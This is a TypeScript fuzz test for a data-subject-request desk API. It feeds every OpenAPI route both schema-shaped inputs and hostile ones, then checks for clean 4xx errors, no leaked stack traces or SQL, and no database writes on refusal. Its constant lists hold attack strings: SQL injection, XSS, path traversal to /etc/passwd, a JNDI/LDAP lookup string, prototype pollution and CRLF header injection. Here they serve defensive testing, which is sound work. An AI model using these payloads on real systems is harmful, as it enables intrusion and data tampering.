/**
 * Every route the server lists in its own /openapi.json, fuzzed with fast-check (fixed seed): path
 * parameters, query strings, headers and JSON bodies, both shaped from the operation's schema
 * (often valid, so the desk's rules run on real requests) and hostile (wrong types, unknown fields,
 * ~70 KB strings, SQL and script injections, path traversal, NUL, unpaired surrogates, deep
 * nesting, malformed JSON, odd content types), with an admin token, without one, or with a garbage
 * credential. Whatever comes in:
 * - never a 5xx;
 * - every 4xx body is `{ "error": { "code", "message" } }`;
 * - no body carries a stack trace or SQL;
 * - a 4xx writes nothing to the desk's tables (desk_requests, and the identities, transitions and
 *   letters that hang from it) — asserted for every route, the public POST routes included.
 * Real SQLite store, Fastify's inject (no network). The number of cases per route family and in
 * total is printed, and quoted in docs/desk.md ("Public routes and limits"). To search further:
 * OPENDPO_FUZZ_SEED=<n> OPENDPO_FUZZ_RUNS=<runs per operation> (OPENDPO_FUZZ_VERBOSE=1: statuses
 * per operation, slow cases); a failure prints the case, its seed and its path to replay it.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import SqliteDatabase from 'better-sqlite3';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StoreLocation } from '../../src/config/config.js';
import { loadWorkerSource } from '../../src/cli/start-desk.js';
import { buildApp } from '../../src/http/app.js';
import type { ZodApp } from '../../src/http/route-context.js';
import { loadRegister } from '../../src/register/load.js';
import { publishRegister } from '../../src/register/publish-register.js';
import { openStore, type Store } from '../../src/store/open-store.js';
import { EXAMPLE, TARGETS, type Target } from '../dsr/shop-targets.js';
import { ROOT } from '../helpers/cli.js';
import { bearer, tokenFor } from '../helpers/staff.js';
import { sqliteCase } from '../store/store-cases.js';
import { loopbackMail, type LoopbackMail } from '../support/loopback-mail.js';

const ORG = 'acme-boutique';
const SEED = Number(process.env.OPENDPO_FUZZ_SEED ?? 20_260_302);
/** Runs per operation and credential mode; sign-in hashes a password (argon2id) on every valid body: fewer there. */
const RUNS = Number(process.env.OPENDPO_FUZZ_RUNS ?? 250);
const RUNS_FOR: Record<string, number> = { 'POST /api/v1/session': 80, 'POST /api/v1/staff/accounts': 80 };

interface Schema {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  items?: Schema;
  minItems?: number;
  maxItems?: number;
  properties?: Record<string, Schema>;
  required?: string[];
  additionalProperties?: boolean | Schema;
  oneOf?: Schema[];
  anyOf?: Schema[];
  allOf?: Schema[];
  $ref?: string;
}

interface Parameter {
  in: 'path' | 'query' | 'header' | 'cookie';
  name: string;
  required?: boolean;
  schema: Schema;
}

interface Operation {
  method: string;
  path: string;
  family: string;
  parameters: Parameter[];
  body: Schema | undefined;
}

/** What one case sends. */
interface Case {
  auth: 'admin' | 'none' | 'garbage';
  path: Record<string, string>;
  query: string;
  headers: Record<string, string>;
  body: { contentType: string | undefined; text: string } | undefined;
  remoteAddress: string;
}

// ---------------------------------------------------------------------------------------------
// Hostile values

const HUGE = 'A'.repeat(70_000);
const PAIRED = '(paired)';
const HOSTILE_STRINGS = [
  "' OR 1=1 --",
  "'; DROP TABLE desk_requests; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd\u0000.png',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF',
  'x\uD83D',
  '\uDE00y',
  '\u202Eevil',
  '🙂'.repeat(10),
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '9'.repeat(40),
  '',
  ' ',
  '\r\n',
  'null',
  '[]',
  '{}',
  HUGE,
  'é'.repeat(35_000),
];
/** Raw, already-encoded URL pieces: malformed percent-encodings, encoded traversal, an encoded surrogate. */
const HOSTILE_RAW_URL = ['%', '%zz', '%00', '%FF%FE', '%ED%A0%80', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', '%252e', 'a%0d%0aSet-Cookie:%20x=1'];

const deep = (depth: number, leaf: unknown = 1): unknown => {
  let v: unknown = leaf;
  for (let i = 0; i < depth; i++) v = i % 2 === 0 ? [v] : { a: v };
  return v;
};
const HOSTILE_JSON: unknown[] = [
  ...HOSTILE_STRINGS,
  -1,
  0,
  -0,
  1.5,
  2 ** 53 + 2,
  -(2 ** 63),
  1e300,
  true,
  false,
  null,
  [],
  {},
  [null],
  { '': '' },
  deep(1_000),
  Array.from({ length: 5_000 }, (_, i) => i),
  Object.fromEntries(Array.from({ length: 2_000 }, (_, i) => [`k${i}`, i])),
];
/** Whole bodies that are not what any route takes. */
const HOSTILE_BODIES: string[] = [
  '',
  '{',
  '{"a":',
  'null',
  '"just a string"',
  '[]',
  '123',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  `{"a":"${'\\ud800'}"}`,
  '\u0000',
  // Nesting deeper than a recursive parser or validator survives, written out (JSON.stringify would overflow here).
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
  `{"identities":${'['.repeat(15_000)}${']'.repeat(15_000)}}`,
  JSON.stringify({ x: HUGE }),
  '{"a":1,"a":2}',
  '\uFEFF{}',
];

// ---------------------------------------------------------------------------------------------
// Values shaped from a JSON Schema

/** Every enum value in the document, and identity types: what free-text fields often mean. */
const WORDS = new Set<string>(['email', 'work_email', 'phone_number', 'customer_number', 'acme-boutique', 'true', 'false', 'a@example.org', 'zoé.durand@example.org', 'x+tag@sub.example.co.uk']);

function shaped(schema: Schema, components: Record<string, Schema>, depth = 0): fc.Arbitrary<unknown> {
  if (schema.$ref) return shaped(components[schema.$ref.split('/').at(-1)!] ?? {}, components, depth);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const alternatives = schema.oneOf ?? schema.anyOf;
  if (alternatives) return fc.oneof(...alternatives.map((s) => shaped(s, components, depth + 1)));
  if (schema.allOf?.length) return shaped(Object.assign({}, ...schema.allOf) as Schema, components, depth);
  const type = Array.isArray(schema.type) ? schema.type : schema.type ? [schema.type] : schema.properties ? ['object'] : [];
  if (type.length > 1) return fc.oneof(...type.map((t) => shaped({ ...schema, type: t }, components, depth)));
  switch (type[0]) {
    case 'string':
      return shapedString(schema);
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : -5);
      const max = schema.maximum ?? (schema.exclusiveMaximum !== undefined ? schema.exclusiveMaximum - 1 : Math.max(min + 10, 10));
      return fc.oneof({ weight: 4, arbitrary: fc.integer({ min, max: Math.min(max, min + 1_000) }) }, fc.constantFrom(min, max));
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(shaped(schema.items ?? {}, components, depth + 1), { minLength: schema.minItems ?? 0, maxLength: Math.min(schema.maxItems ?? 3, 3) });
    case 'object': {
      const props = schema.properties ?? {};
      const model: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [k, s] of Object.entries(props)) model[k] = depth > 6 ? fc.constant(null) : shaped(s, components, depth + 1);
      return fc.record(model, { requiredKeys: (schema.required ?? []).filter((k) => k in model) });
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function shapedString(schema: Schema): fc.Arbitrary<string> {
  const min = schema.minLength ?? 0;
  const max = schema.maxLength ?? 60;
  const fits = (s: string) => s.length >= min && s.length <= max && (!schema.pattern || new RegExp(schema.pattern).test(s));
  // No .filter() on a generator here: a filter that rarely passes spins; values that do not fit are cut or replaced.
  const cut = (s: string) => (s.length > max ? s.slice(0, max) : s);
  const options: fc.Arbitrary<string>[] = [];
  if (schema.format === 'date') options.push(fc.date({ min: new Date('2000-01-01'), max: new Date('2030-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)));
  else if (schema.format === 'date-time') {
    options.push(fc.date({ min: new Date('2000-01-01'), max: new Date('2030-12-31'), noInvalidDate: true }).map((d) => d.toISOString()));
    options.push(fc.constantFrom('2026-02-20T10:00:00+01:00', '2026-03-01T23:59:59Z', '0001-01-01T00:00:00Z', '9999-12-31T23:59:59Z'));
  } else if (schema.format === 'email') options.push(fc.emailAddress());
  else if (schema.format === 'uri') options.push(fc.webUrl());
  else if (schema.format === 'uuid') options.push(fc.uuid());
  else if (schema.pattern) {
    options.push(fc.stringMatching(new RegExp(schema.pattern)).map(cut));
  } else {
    options.push(fc.string({ minLength: min, maxLength: Math.min(max, 40) }));
    options.push(fc.string({ minLength: min, maxLength: Math.min(max, 40), unit: 'grapheme' }));
  }
  const words = [...WORDS].filter(fits);
  if (words.length > 0) {
    // Free text often means one of the document's own words (a state, a type, a channel), or a list of them.
    options.push(fc.constantFrom(...words), fc.constantFrom(...words));
    if (!schema.pattern) options.push(fc.subarray(words, { minLength: 1, maxLength: 3 }).map((w) => (fits(w.join(',')) ? w.join(',') : words[0]!)));
  }
  return fc.oneof(...options);
}

/** A shaped object changed: an unknown field, a field replaced by a hostile value, a required one dropped. */
function mutated(value: unknown): fc.Arbitrary<unknown> {
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return fc.constantFrom(...HOSTILE_JSON);
  const keys = Object.keys(value);
  return fc.oneof(
    fc.tuple(fc.constantFrom('admin', 'role', 'organisation_id', 'state', 'version', '$where', 'id'), fc.constantFrom(...HOSTILE_JSON)).map(([k, v]) => ({ ...value, [k]: v })),
    ...(keys.length > 0
      ? [
          fc.tuple(fc.constantFrom(...keys), fc.constantFrom(...HOSTILE_JSON)).map(([k, v]) => ({ ...value, [k]: v })),
          fc.constantFrom(...keys).map((k) => Object.fromEntries(Object.entries(value).filter(([key]) => key !== k))),
          fc.tuple(fc.constantFrom(...keys), fc.nat({ max: 3 })).map(([k, n]) => ({ ...value, [k]: deep(n * 300, (value as Record<string, unknown>)[k]) })),
        ]
      : []),
  );
}

// ---------------------------------------------------------------------------------------------
// Encoding

/** Percent-encodes a string for a URL, unpaired surrogates included (as the bytes a lax encoder would write). */
function encode(s: string): string {
  let out = '';
  for (const ch of s) {
    const cp = ch.codePointAt(0)!;
    if (cp >= 0xd800 && cp <= 0xdfff) {
      out += [0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 0x3f), 0x80 | (cp & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
    } else out += encodeURIComponent(ch);
  }
  return out;
}

/** A header value Node would send: visible ASCII, no CR or LF. */
const headerSafe = (s: string) => s.replace(/[^\x20-\x7e]/g, '?').slice(0, 8_000);

const asText = (v: unknown) => (typeof v === 'string' ? v : JSON.stringify(v) ?? '');

// ---------------------------------------------------------------------------------------------

describe('every route, fuzzed', () => {
  const dialect = sqliteCase();
  let location: StoreLocation;
  let store: Store;
  let mail: LoopbackMail;
  let app: ZodApp;
  let reader: SqliteDatabase.Database;
  let admin: Record<string, string>;
  let operations: Operation[];
  let shop: Target | undefined;
  let datasetsDir: string | undefined;
  let components: Record<string, Schema>;
  /** Requests that exist, and the status token of those made from the form: seeded, then each one the fuzzer creates. */
  const ids: string[] = [];
  const statusTokens = new Map<string, string>();
  let clock = Date.parse('2026-03-02T09:00:00Z');

  beforeAll(async () => {
    mail = await loopbackMail();
    location = await dialect.setUp();
    store = await openStore(location);
    await publishRegister(store, await loadRegister(`${ROOT}/examples/acme-shop`), { author: 'test' });
    // The example shop's datasets on a throwaway SQLite shop, and the register folder it was published
    // from: the Systems page, a request's dry run and publishing run for real.
    shop = await TARGETS.find((t) => t.name === 'SQLite')!.create();
    datasetsDir = mkdtempSync(path.join(tmpdir(), 'opendpo-fuzz-datasets-'));
    writeFileSync(path.join(datasetsDir, 'shop.yaml'), readFileSync(path.join(EXAMPLE, 'shop.yaml')));
    writeFileSync(path.join(datasetsDir, 'connections.yaml'), `register: ${path.join(ROOT, 'examples/acme-shop')}\nconnections:\n  - name: shop\n    type: sqlite\n    url: ${shop.url}\n    datasets: [shop]\n`);
    app = await buildApp({
      config: { logLevel: 'silent', publicRateLimit: 1_000_000_000 },
      store,
      defaultOrganisation: ORG,
      mailer: mail.mailer,
      sources: [await loadWorkerSource(datasetsDir)],
      registerFolders: [path.join(ROOT, 'examples/acme-shop')],
      // A second a case: codes and deadlines move as they would, and every run is the same.
      now: () => new Date(clock),
    });
    admin = bearer(await tokenFor(store, ORG, 'admin', { expiresAt: new Date('2100-01-01') }));
    if (location.kind !== 'sqlite') throw new Error('the fuzzer reads the SQLite file');
    reader = new SqliteDatabase(location.file, { readonly: true });
    // Requests to act on: from the form (with their status tokens) and entered by staff.
    for (const [n, details] of [{ type: 'access' }, { type: 'erasure' }, { type: 'objection', direct_marketing: true }].entries()) {
      const res = await app.inject({ method: 'POST', url: `/api/v1/organisations/${ORG}/requests`, payload: { identities: [{ type: 'email', value: `fuzz${n}@example.org` }], details } });
      expect(res.statusCode, res.body).toBe(201);
      ids.push(res.json().request.id);
      statusTokens.set(res.json().request.id, res.json().status_token);
    }
    for (const n of [1, 2]) {
      const res = await app.inject({
        method: 'POST',
        url: `/api/v1/organisations/${ORG}/desk/requests`,
        headers: admin,
        payload: { channel: 'post', received_at: '2026-02-20T10:00:00+01:00', identities: [{ type: 'customer_number', value: `F-${n}` }], details: { type: 'access' } },
      });
      expect(res.statusCode, res.body).toBe(201);
      ids.push(res.json().id);
    }

    const doc = (await app.inject({ url: '/openapi.json' })).json() as {
      paths: Record<string, Record<string, { tags?: string[]; parameters?: Parameter[]; requestBody?: { content?: Record<string, { schema: Schema }> } }>>;
      components: { schemas: Record<string, Schema> };
    };
    components = doc.components.schemas;
    const collect = (x: unknown): void => {
      if (Array.isArray(x)) x.forEach(collect);
      else if (x && typeof x === 'object') {
        const o = x as Record<string, unknown>;
        if (Array.isArray(o.enum)) for (const v of o.enum) if (typeof v === 'string') WORDS.add(v);
        Object.values(o).forEach(collect);
      }
    };
    collect(doc);
    operations = Object.entries(doc.paths).flatMap(([path, ops]) =>
      Object.entries(ops).map(([method, op]) => ({
        method: method.toUpperCase(),
        path,
        family: op.tags?.[0] ?? 'untagged',
        parameters: op.parameters ?? [],
        body: op.requestBody?.content?.['application/json']?.schema,
      })),
    );
  });

  afterAll(async () => {
    await mail?.close();
    reader?.close();
    await app?.close();
    await store?.close();
    await shop?.drop();
    if (datasetsDir) rmSync(datasetsDir, { recursive: true, force: true });
    await dialect.tearDown();
  });

  /** What the desk has written: any 4xx must leave it as it was. */
  const deskState = () =>
    JSON.stringify([
      reader.prepare('select count(*) n, coalesce(sum(version), 0) v, max(updated_at) u, max(state) s from desk_requests').get(),
      reader.prepare('select count(*) n, coalesce(sum(challenges_sent), 0) c, coalesce(sum(challenge_attempts), 0) a, count(verified_at) v from desk_identities').get(),
      reader.prepare('select count(*) n from desk_transitions').get(),
      reader.prepare('select count(*) n from desk_letters').get(),
    ]);

  function caseFor(op: Operation): fc.Arbitrary<Case> {
    const pathParam = (p: Parameter): fc.Arbitrary<string> => {
      const good =
        p.name === 'org'
          ? fc.constantFrom(ORG, ORG, ORG, 'other-org')
          : p.name === 'id'
            ? fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...ids) }, fc.uuid())
            : p.name === 'system'
              ? fc.oneof({ weight: 3, arbitrary: fc.constant('shop') }, shaped(p.schema, components).map(asText))
              : shaped(p.schema, components).map(asText);
      return fc.oneof(
        { weight: 12, arbitrary: good.map(encode) },
        { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS.filter((s) => s.length < 300)).map(encode) },
        { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_RAW_URL) },
        { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }).map(encode) },
      );
    };
    const queryParams = op.parameters.filter((p) => p.in === 'query');
    const queryValue = (p: Parameter): fc.Arbitrary<string | undefined> =>
      fc.oneof(
        { weight: 3, arbitrary: fc.constant(undefined) },
        { weight: 6, arbitrary: shaped(p.schema, components).map((v) => encode(asText(v))) },
        { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS).map(encode) },
        { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_RAW_URL) },
      );
    const shapedQueryValue = (p: Parameter): fc.Arbitrary<string | undefined> =>
      fc.option(shaped(p.schema, components).map((v) => encode(asText(v))), { freq: 2, nil: undefined });
    const query = fc
      .tuple(
        // Either every parameter shaped (or left out), so the route runs, or any of them hostile.
        fc.oneof(fc.tuple(...queryParams.map((p) => shapedQueryValue(p))), fc.tuple(...queryParams.map((p) => queryValue(p)))),
        fc.oneof(
          { weight: 6, arbitrary: fc.constant('') },
          fc.constantFrom('unknown=1', 'org=other-org', '__proto__[admin]=1', 'a[b][c]=d', '&&&', '=', 'x'),
          fc.constantFrom(...HOSTILE_RAW_URL).map((r) => `${r}=${r}`),
          // A parameter given twice: an array where a string is expected.
          queryParams.length > 0 ? fc.constantFrom(...queryParams.map((p) => `${p.name}=1&${p.name}=2`)) : fc.constant(''),
        ),
      )
      .map(([values, extra]) => [...queryParams.flatMap((p, i) => (values[i] === undefined ? [] : [`${p.name}=${values[i]}`])), ...(extra ? [extra] : [])].join('&'));
    const headerParams = op.parameters.filter((p) => p.in === 'header');
    const headers = fc
      .tuple(
        ...headerParams.map((p) =>
          fc.oneof(
            { weight: 1, arbitrary: fc.constant(undefined) },
            {
              weight: 4,
              // PAIRED: the status token of the request the path names, when known (resolved as the case is sent).
              arbitrary:
                p.name === 'x-status-token'
                  ? fc.oneof({ weight: 4, arbitrary: fc.constant(PAIRED) }, { weight: 1, arbitrary: fc.constantFrom(...statusTokens.values()) })
                  : shaped(p.schema, components).map(asText),
            },
            { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
          ),
        ),
      )
      .map((values) => Object.fromEntries(headerParams.flatMap((p, i) => (values[i] === undefined ? [] : [[p.name, headerSafe(values[i]!)]]))) as Record<string, string>);
    const json = (text: string) => ({ contentType: 'application/json' as string | undefined, text });
    const bodySchema = op.body;
    const body: fc.Arbitrary<Case['body']> = bodySchema
      ? fc.oneof(
          { weight: 5, arbitrary: shaped(bodySchema, components).map((v) => json(JSON.stringify(v))) },
          { weight: 4, arbitrary: shaped(bodySchema, components).chain(mutated).map((v) => json(JSON.stringify(v) ?? 'null')) },
          { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_JSON).map((v) => json(JSON.stringify(v))) },
          { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_BODIES).map(json) },
          {
            weight: 1,
            arbitrary: fc
              .tuple(shaped(bodySchema, components), fc.constantFrom(undefined, 'text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=utf-16', 'multipart/form-data; boundary=x', 'application/json\u0000'))
              .map(([v, contentType]) => ({ contentType: contentType === undefined ? undefined : headerSafe(contentType), text: JSON.stringify(v) })),
          },
        )
      : fc.oneof({ weight: 8, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_BODIES).map(json) });
    const pathNames = [...op.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
    const pathParams = pathNames.map((name) => op.parameters.find((p) => p.in === 'path' && p.name === name) ?? { in: 'path' as const, name, schema: { type: 'string' } });
    return fc.record({
      auth: fc.constantFrom('admin', 'admin', 'none', 'garbage'),
      path: fc.tuple(...pathParams.map(pathParam)).map((values) => Object.fromEntries(pathNames.map((n, i) => [n, values[i]!]))),
      query,
      headers,
      body,
      remoteAddress: fc.ipV4(),
    }) as fc.Arbitrary<Case>;
  }

  const STACK = /\n\s+at [^\n]*[(/]|\.(?:ts|js|mjs|cjs):\d+:\d+|node:internal/;
  const SQL = /\b(?:from|into|update|join|table)\s+"[a-z_]+"|\bselect\s+(?:\*|"[a-z_]+")|SQLITE_[A-Z]|SqliteError|syntax error at or near|violates (?:unique|foreign key|not-null|check) constraint|UNIQUE constraint failed|no such (?:table|column)/i;

  it('never answers 5xx, answers every 4xx in the error format, leaks no stack or SQL, and writes nothing when it refuses', async () => {
    const perFamily = new Map<string, number>();
    const perOperation: string[] = [];
    const failures: string[] = [];
    const started = Date.now();
    for (const op of operations) {
      const label = `${op.method} ${op.path}`;
      let cases = 0;
      const statuses = new Map<number, number>();
      const property = fc.asyncProperty(caseFor(op), async (c) => {
        cases++;
        clock += 1_000;
        const url = op.path.replace(/\{(\w+)\}/g, (_, name: string) => c.path[name] ?? '') + (c.query ? `?${c.query}` : '');
        const headers: Record<string, string> = { ...c.headers };
        if (headers['x-status-token'] === PAIRED) headers['x-status-token'] = statusTokens.get(c.path.id ?? '') ?? 'no-token-for-this-id';
        if (c.auth === 'admin') Object.assign(headers, admin);
        if (c.auth === 'garbage') Object.assign(headers, { authorization: 'Bearer odp_AAAA_BBBB', cookie: 'opendpo_session=%00..%2F' });
        if (c.body?.contentType !== undefined) headers['content-type'] = c.body.contentType;
        const before = deskState();
        const t0 = Date.now();
        const res = await app.inject({ method: op.method as 'GET', url, headers, remoteAddress: c.remoteAddress, ...(c.body ? { payload: c.body.text } : {}) });
        statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
        const where = `${op.method} ${url.slice(0, 300)} -> ${res.statusCode}: ${res.body.slice(0, 300)}`;
        if (process.env.OPENDPO_FUZZ_VERBOSE === '1' && Date.now() - t0 > 500) console.log(`slow (${Date.now() - t0} ms): ${where} body ${c.body?.text.slice(0, 200)}`);
        if (res.statusCode >= 500) throw new Error(`5xx: ${where}`);
        if (res.statusCode === 201) {
          // A request (or a staff account) made: later operations act on it too (its token, for the public routes).
          const made = res.json() as { id?: string; request?: { id: string }; account?: { id: string }; status_token?: string };
          const id = made.request?.id ?? made.account?.id ?? made.id;
          if (id !== undefined) ids.push(id);
          if (id !== undefined && made.status_token !== undefined) statusTokens.set(id, made.status_token);
        }
        if (STACK.test(res.body)) throw new Error(`a stack trace: ${where}`);
        if (SQL.test(res.body)) throw new Error(`SQL: ${where}`);
        if (res.statusCode >= 400) {
          let parsed: unknown;
          try {
            parsed = res.json();
          } catch {
            throw new Error(`a 4xx that is not JSON: ${where}`);
          }
          const error = (parsed as { error?: Record<string, unknown> }).error;
          const shapeOk =
            parsed !== null &&
            typeof parsed === 'object' &&
            Object.keys(parsed).join() === 'error' &&
            error !== undefined &&
            Object.keys(error).sort().join() === 'code,message' &&
            typeof error.code === 'string' &&
            /^[A-Z_]+$/.test(error.code) &&
            typeof error.message === 'string' &&
            error.message.length > 0;
          if (!shapeOk) throw new Error(`a 4xx not in the error format: ${where}`);
          if (deskState() !== before) throw new Error(`a 4xx that wrote to the desk: ${where}`);
        }
      });
      const runs = RUNS_FOR[label] ?? RUNS;
      const opStarted = Date.now();
      const result = await fc.check(property, { seed: SEED, numRuns: runs });
      if (result.failed) {
        failures.push(`${label}: ${String((result.errorInstance as Error | undefined)?.message ?? result.errorInstance)}\n  counterexample: ${JSON.stringify(result.counterexample)?.slice(0, 2_000)}\n  seed ${result.seed}, path ${result.counterexamplePath}`);
      }
      perFamily.set(op.family, (perFamily.get(op.family) ?? 0) + cases);
      perOperation.push(`${label}: ${cases} cases, ${Date.now() - opStarted} ms, statuses ${JSON.stringify(Object.fromEntries([...statuses].sort(([a], [b]) => a - b)))}`);
      if (process.env.OPENDPO_FUZZ_VERBOSE === '1') console.log(perOperation.at(-1));
    }
    const total = [...perFamily.values()].reduce((a, b) => a + b, 0);
    console.log(
      [
        `fuzzed ${operations.length} operations with seed ${SEED} in ${((Date.now() - started) / 1000).toFixed(1)} s: ${total} cases`,
        ...[...perFamily.entries()].sort(([a], [b]) => a.localeCompare(b)).map(([family, n]) => `  ${family}: ${n}`),
      ].join('\n'),
    );
    expect(failures).toEqual([]);
    expect(operations.length).toBeGreaterThan(30);
  }, 180_000);
});
